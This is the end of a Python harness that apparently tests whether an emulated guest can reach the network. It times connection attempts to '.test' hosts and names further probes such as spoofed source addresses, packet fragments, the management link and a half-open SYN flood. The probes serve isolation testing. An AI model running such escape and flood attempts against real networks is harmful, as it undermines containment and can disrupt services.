@slow
def name_server_is_silent(): return tcp("silent.egress.test", 8081, b"", 40)
@slow
def name_does_not_exist(): return tcp("missing.egress.test", 8082, b"", 40)

def run(name):
    t = time.time()
    try: r = attempts[name]()
    except Exception: r = "exception " + traceback.format_exc()
    print(json.dumps({"name": name, "result": r, "seconds": round(time.time() - t, 1)}), flush=True)

# One after the other: a guest under emulation that does several handshakes at once is too late for all of them. Only what waits
# most of its time goes on beside; what changes the guest's network comes last, when nothing does.
last = ["spoofed_sources", "spoofed_hardware_address", "fragments", "ping", "other_interfaces", "the_management_link", "other_routes", "ipv6", "half_open_flood"]
only = [n for n in sys.argv[2:] if n in attempts] or list(attempts)
threads = [threading.Thread(target=run, args=(n,)) for n in only if n in background]
for t in threads: t.start()
for n in only:
    if n not in background and n not in last: run(n)
for t in threads: t.join()
for n in last:
    if n in only: run(n)
